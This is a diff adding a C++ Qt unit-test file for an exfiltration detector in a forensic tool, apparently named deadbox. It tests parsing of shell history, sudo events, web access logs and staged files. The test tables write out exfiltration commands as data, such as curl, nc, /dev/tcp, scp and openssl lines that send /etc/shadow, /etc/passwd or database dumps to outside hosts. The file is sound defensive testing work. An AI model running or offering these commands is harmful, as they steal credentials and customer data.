@@ -1,0 +1,195 @@
+#include "exfiltration/command.hpp"
+#include "support/case_fixture.hpp"
+#include "support/test_main.hpp"
+
+using namespace deadbox;
+namespace exfiltration = plugins::exfiltration;
+
+namespace {
+
+constexpr std::int64_t k_start = 1'772'352'000;  // 2026-03-01T08:00:00Z
+
+std::string access_line(const std::string& address, const std::string& path, int status, std::int64_t bytes, const std::string& referer = "-") {
+    return address + " - - [01/Mar/2026:09:00:00 +0000] \"GET " + path + " HTTP/1.1\" " + std::to_string(status) + " " + std::to_string(bytes) + " \"" + referer + "\" \"curl/7.88.1\"\n";
+}
+
+}  // namespace
+
+class ExfiltrationTest : public QObject {
+    Q_OBJECT
+private slots:
+    void commands_data() {
+        QTest::addColumn<QByteArray>("line");
+        QTest::addColumn<QString>("found");  // "" for nothing
+        const auto row = [](const char* line, const char* found) { QTest::newRow(line) << QByteArray(line) << QString(found); };
+        row("curl -u martina:x https://files.example.org/x -T shop.sql", "curl shop.sql -> files.example.org data");
+        row("curl -sT /tmp/a.tgz transfer.sh", "curl /tmp/a.tgz -> transfer.sh data");
+        row("curl --upload-file=./notes.txt https://transfer.sh/notes.txt", "curl ./notes.txt -> transfer.sh");
+        row("curl -F 'file=@/etc/shadow' https://0x0.st", "curl /etc/shadow -> 0x0.st data");
+        row("curl -X POST --data-binary @dump.bin https://198.51.100.7:8443/in", "curl dump.bin -> 198.51.100.7");
+        row("curl -d 'name=x&mail=a@b.example' https://example.org/form", "");
+        row("curl -o x.tgz https://example.org/x.tgz", "");
+        row("curl --data-raw @x https://example.org/", "");
+        row("mysqldump shop | curl -T - ftp://198.51.100.7/", "curl - -> 198.51.100.7 data");
+        row("wget --post-file=/etc/passwd http://198.51.100.7/", "wget /etc/passwd -> 198.51.100.7 data");
+        row("wget http://example.org/x.tgz", "");
+        row("scp -P 2222 /root/shop.sql eve@198.51.100.7:/tmp/", "scp /root/shop.sql -> 198.51.100.7 data");
+        row("scp eve@198.51.100.7:/tmp/x.tgz .", "");
+        row("sudo -u www-data scp -i k a.txt host.example.org:", "scp a.txt -> host.example.org");
+        row("rsync -az --delete -e 'ssh -p 22' /srv/www/ backup@backup.example.org:/srv/", "rsync /srv/www/ -> backup.example.org");
+        row("rsync -a host.example.org:/x /y", "");
+        row("rsync -a rsync://mirror.example.org/debian /srv/mirror", "");
+        row("rsync -a /var/lib/mysql/ rsync://198.51.100.7/in/", "rsync /var/lib/mysql/ -> 198.51.100.7 data");
+        row("rclone copy /srv/customers.zip mega:x", "rclone /srv/customers.zip -> rclone mega: data");
+        row("rclone copy mega:x /srv", "");
+        row("aws s3 cp dump.sql.gz s3://bucket/a/b", "aws dump.sql.gz -> s3://bucket data");
+        row("aws s3 cp s3://bucket/a .", "");
+        row("nc 198.51.100.7 4444 < /etc/shadow", "nc /etc/shadow -> 198.51.100.7 raw data");
+        row("tar czf - /home | nc -q 1 198.51.100.7 4444", "nc tar /home -> 198.51.100.7 raw data");
+        row("tar cf - /home | gzip | base64 | nc 198.51.100.7 4444", "nc tar /home -> 198.51.100.7 raw data");
+        row("nc -lvp 4444 < x.tgz", "");
+        row("echo QUIT | nc mail.example.org 25", "");
+        row("cat /etc/passwd > /dev/tcp/198.51.100.7/80", "/dev/tcp /etc/passwd -> 198.51.100.7 raw data");
+        row("exec 3<>/dev/tcp/198.51.100.7/80", "");
+        row("pg_dumpall | ssh eve@198.51.100.7 'cat > x'", "ssh pg_dumpall -> 198.51.100.7 data");
+        row("openssl s_client -quiet -connect 198.51.100.7:443 < dump.sql", "openssl dump.sql -> 198.51.100.7 raw data");
+        row("openssl s_client -connect example.org:443 < /dev/null", "");
+        row("lftp -e 'put shop.sql; bye' -u a,b ftp.example.org", "lftp shop.sql -> ftp.example.org data");
+        row("cd /tmp && tar czf w.tgz /var/www; curl -F f=@w.tgz https://file.io", "curl w.tgz -> file.io data");
+        row("# curl -T x.sql https://transfer.sh", "");
+        row("echo 'curl -T x.sql https://transfer.sh'", "");
+        row("mysqldump -u shop -pgeheim shop > /root/shop.sql", "");
+        row("grep curl /var/log/syslog | tail", "");
+        row("curl", "");
+        row("'", "");
+    }
+    void commands() {
+        QFETCH(QByteArray, line);
+        QFETCH(QString, found);
+        const auto transfer = exfiltration::transfer_in(line.toStdString());
+        QString got;
+        if (transfer) {
+            got = QString::fromStdString(transfer->program);
+            for (const auto& what : transfer->what) got += " " + QString::fromStdString(what);
+            got += " -> " + QString::fromStdString(transfer->target);
+            if (transfer->means == exfiltration::Means::raw) got += " raw";
+            if (transfer->data) got += " data";
+        }
+        QCOMPARE(got, found);
+    }
+
+    void sent_data() {
+        QTest::addColumn<QByteArray>("history");
+        QTest::addColumn<QString>("found");  // target severity confidence
+        QTest::newRow("nothing") << QByteArray("ls\ncd /tmp\n") << QString();
+        QTest::newRow("to a service for anybody") << QByteArray("curl -F file=@notes.txt https://file.io\n") << "file.io 2 1";
+        QTest::newRow("below such a service") << QByteArray("curl -T a.sql https://x.trycloudflare.com/\n") << "x.trycloudflare.com 2 1";
+        QTest::newRow("a name that only ends like one") << QByteArray("curl -T notes.txt https://profile.io/\n") << "profile.io 1 0";
+        QTest::newRow("bare connection outside") << QByteArray("nc 198.51.100.7 9 < /etc/shadow\n") << "198.51.100.7 2 1";
+        QTest::newRow("bare connection to a neighbour") << QByteArray("tar c /srv | nc 192.168.1.5 9000\n") << "192.168.1.5 1 0";
+        QTest::newRow("a dump to some host") << QByteArray("scp shop.sql me@old.example.org:\n") << "old.example.org 2 0";
+        QTest::newRow("a file to some host") << QByteArray("scp motd me@old.example.org:\n") << "old.example.org 1 0";
+        QTest::newRow("a copy to the machine for copies") << QByteArray("rsync -a /srv/ backup@nas:/vol/\n") << "nas 1 0";
+        QTest::newRow("a copy inside") << QByteArray("scp db.sql.gz backup.corp.internal:\n") << "backup.corp.internal 1 0";
+    }
+    void sent() {
+        QFETCH(QByteArray, history);
+        QFETCH(QString, found);
+        test::CaseFixture fixture;
+        test::FileSpec spec;
+        spec.path = "/root/.bash_history", spec.bytes = history.toStdString(), spec.modified = k_start;
+        fixture.add_parsed("shell_history", spec);
+        QString got;
+        for (const auto& f : fixture.detect("exfiltration")) {
+            got += QStringLiteral("%1 %2 %3").arg(QString::fromStdString(f.subject)).arg(f.severity).arg(f.confidence);
+            QCOMPARE(f.rule, std::string("exfiltration/sent"));
+            QCOMPARE(f.first_s.value_or(0), k_start);
+            QCOMPARE(f.items.at(0).path, spec.path);
+            QCOMPARE(f.items.at(0).line.value_or(0), std::int64_t{1});
+        }
+        QCOMPARE(got, found);
+    }
+    void sent_through_sudo_and_not_through_cron() {
+        test::CaseFixture fixture;
+        fixture.event("cron.command", k_start, "root", {}, "{\"command\": \"mysqldump shop | curl -T - https://transfer.sh/x\"}");
+        QVERIFY(fixture.detect("exfiltration").empty());
+        fixture.event("auth.sudo.command", k_start + 60, "deploy", {}, "{\"command\": \"/usr/bin/curl -T /root/shop.sql https://transfer.sh/x\"}");
+        const auto findings = fixture.detect("exfiltration");
+        QCOMPARE(findings.size(), std::size_t{1});
+        QCOMPARE(findings[0].items.at(0).key, std::string("deploy"));
+        QCOMPARE(findings[0].arguments.value("what", ""), std::string("/root/shop.sql"));
+    }
+
+    void downloads_data() {
+        QTest::addColumn<QString>("file");   // path below the root, size in kB, made so many days before the request; "" for none
+        QTest::addColumn<QByteArray>("log");
+        QTest::addColumn<QString>("found");  // subject confidence
+        const std::string a = "198.51.100.7";
+        const auto log = [](const std::string& text) { return QByteArray::fromStdString(text); };
+        QTest::newRow("a dump") << "shop.sql.gz 900 100" << log(access_line(a, "/shop.sql.gz", 200, 900'000)) << "/var/www/html/shop.sql.gz 1";
+        QTest::newRow("a dump in pieces") << "shop.sql 900 100" << log(access_line(a, "/shop.sql", 206, 500'000) + access_line(a, "/shop.sql", 206, 400'100)) << "/var/www/html/shop.sql 1";
+        QTest::newRow("a dump, refused") << "shop.sql 900 100" << log(access_line(a, "/shop.sql", 403, 900'000)) << "";
+        QTest::newRow("an error page with 200") << "shop.sql 900 100" << log(access_line(a, "/shop.sql", 200, 7'000)) << "";
+        QTest::newRow("names that are not there, answered with a page") << "" << log(access_line(a, "/backup.zip", 200, 2'000'000) + access_line(a, "/db.sql", 200, 2'000'000) + access_line(a, "/www.zip", 200, 2'000'000)) << "";
+        QTest::newRow("a dump that is gone") << "" << log(access_line(a, "/db.sql", 200, 2'000'000)) << "/db.sql 0";
+        QTest::newRow("an archive made the day before") << "site.tar.gz 900 1" << log(access_line(a, "/site.tar.gz", 200, 900'000)) << "/var/www/html/site.tar.gz 0";
+        QTest::newRow("an archive of long ago") << "program-1.2.tar.gz 900 200" << log(access_line(a, "/program-1.2.tar.gz", 200, 900'000)) << "";
+        QTest::newRow("a release that many fetch") << "program-1.3.tar.gz 900 1"
+            << log(access_line("198.51.100.1", "/program-1.3.tar.gz", 200, 900'000) + access_line("198.51.100.2", "/program-1.3.tar.gz", 200, 900'000) + access_line("198.51.100.3", "/program-1.3.tar.gz", 200, 900'000) +
+                   access_line("198.51.100.4", "/program-1.3.tar.gz", 200, 900'000)) << "";
+        QTest::newRow("by a link") << "prices.zip 900 1" << log(access_line(a, "/prices.zip", 200, 900'000, "https://shop.example.org/")) << "";
+    }
+    void downloads() {
+        QFETCH(QString, file);
+        QFETCH(QByteArray, log);
+        QFETCH(QString, found);
+        test::CaseFixture fixture;
+        fixture.row("web_root", {std::string_view("/var/www/html"), std::string_view("apache"), std::string_view(""), std::string_view("root"), std::string_view("/"), std::int64_t{0}, std::int64_t{1}, std::int64_t{1}});
+        if (const auto part = file.split(' '); part.size() == 3) {
+            test::FileSpec spec;
+            spec.path = "/var/www/html/" + part[0].toStdString(), spec.size = part[1].toULongLong() * 1000;
+            spec.born = k_start + 3600 - part[2].toLongLong() * 86400, spec.modified = spec.born, spec.digests = false;
+            fixture.add(spec);
+        }
+        test::FileSpec spec;
+        spec.path = "/var/log/apache2/access.log", spec.bytes = log.toStdString();
+        fixture.add_parsed("access_log", spec);
+        QString got;
+        for (const auto& f : fixture.detect("exfiltration")) {
+            if (f.rule != "exfiltration/web_download") continue;
+            QCOMPARE(f.severity, 2);
+            QCOMPARE(f.items.at(0).path, spec.path);
+            got += QStringLiteral("%1 %2").arg(QString::fromStdString(f.subject)).arg(f.confidence);
+        }
+        QCOMPARE(got, found);
+    }
+
+    void staged_data() {
+        QTest::addColumn<QString>("path");
+        QTest::addColumn<QString>("type");
+        QTest::addColumn<int>("severity");  // -1: no finding
+        QTest::newRow("in a hidden folder") << "/var/tmp/.b/h.tgz" << "application/gzip" << 2;
+        QTest::newRow("in /dev/shm") << "/dev/shm/shop.sql" << "text/plain" << 1;
+        QTest::newRow("a log in /tmp") << "/tmp/install.log" << "text/plain" << -1;
+        QTest::newRow("a private folder of a service") << "/tmp/systemd-private-1-apache2/tmp/x.zip" << "application/zip" << -1;
+        QTest::newRow("a dump put into a web root") << "/var/www/html/x/shop.sql" << "text/plain" << 2;
+        QTest::newRow("a program's own tables") << "/var/www/html/install/tables.sql" << "text/plain" << -1;
+        QTest::newRow("a copy where copies lie") << "/var/backups/shop.sql" << "text/plain" << -1;
+    }
+    void staged() {
+        QFETCH(QString, path);
+        QFETCH(QString, type);
+        QFETCH(int, severity);
+        test::CaseFixture fixture;
+        fixture.row("web_root", {std::string_view("/var/www/html"), std::string_view("apache"), std::string_view(""), std::string_view("root"), std::string_view("/"), std::int64_t{0}, std::int64_t{1}, std::int64_t{1}});
+        test::FileSpec spec;
+        spec.path = path.toStdString(), spec.content_type = type.toStdString(), spec.size = 400'000, spec.digests = false;
+        if (!path.contains("/install/")) spec.born = 1'700'000'000 + 30 * 86400;
+        fixture.add(spec);
+        const auto findings = fixture.detect("exfiltration");
+        QCOMPARE(findings.empty() ? -1 : findings[0].severity, severity);
+        if (severity >= 0) QCOMPARE(findings[0].confidence, 0);
+    }
+};
+DEADBOX_TEST(ExfiltrationTest)
+#include "exfiltration_test.moc"
